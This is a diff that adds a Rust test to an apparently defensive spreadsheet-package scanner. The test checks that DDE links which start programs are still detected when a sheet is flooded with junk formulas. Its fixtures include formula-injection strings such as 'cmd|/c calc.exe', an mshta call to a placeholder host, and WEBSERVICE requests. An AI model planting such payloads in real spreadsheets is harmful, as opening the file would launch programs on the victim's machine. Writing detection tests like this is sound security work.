@@ -1,6 +1,7 @@
 //! Broken, odd and hostile parts.
 
 use super::*;
+use crate::link::Kind;
 
 #[test]
 fn a_formula_cut_off_by_the_end_of_its_part() {
@@ -108,4 +109,39 @@ fn hostile_counts_end() {
     let links = Package::new().sheet(&cells).links();
     assert_eq!(links.len(), 1_001);
     assert_eq!(links.last().unwrap().raw, "1000 more hyperlinks to the web");
+}
+
+/// Whatever junk comes first, a link that starts a program has room.
+#[test]
+fn junk_starves_no_program() {
+    let cells = |formula: &str| -> String {
+        let cells = (0..2_000).map(|n| formula.replace("{n}", &n.to_string()));
+        format!("<row>{}</row>", cells.collect::<String>())
+    };
+    for junk in [
+        "<c><f>[1]!x{n}</f></c>",
+        "<c><f>[{n}]!x</f></c>",
+        "<c><f>x{n}|'y'!z</f></c>",
+        "<c><f>WEBSERVICE(\"http://x/{n}\")</f></c>",
+        "<c><f>HYPERLINK(\"\\\\h\\{n}\")</f></c>",
+        "<c t='str'><v>=x{n}|'y'!z</v></c>",
+        "<si><t>=cmd|'/c {n}'!z</t></si>",
+    ] {
+        let mut package = Package::new()
+            .workbook(&["rId2"], "")
+            .sheet(&cells(junk))
+            .link_part(EXTERNAL, WRITTEN)
+            .cell("mshta|'http://x'!A0")
+            .relation("xl/workbook.xml", "rId2", EXTERNAL);
+        package.limits.live_bytes = 256 * 1024;
+        let given = package.read();
+        assert_eq!((given.left, given.stopped), (false, None), "{junk}");
+        assert!(given.gaps > 0, "{junk}");
+        for expected in ["cmd|/c calc.exe!A1", "mshta|http://x!A0"] {
+            let found = given.links.iter().any(|link| {
+                link.kind != Kind::Inert && !link.readings.is_empty() && triple(link) == expected
+            });
+            assert!(found, "{junk}: {expected}");
+        }
+    }
 }
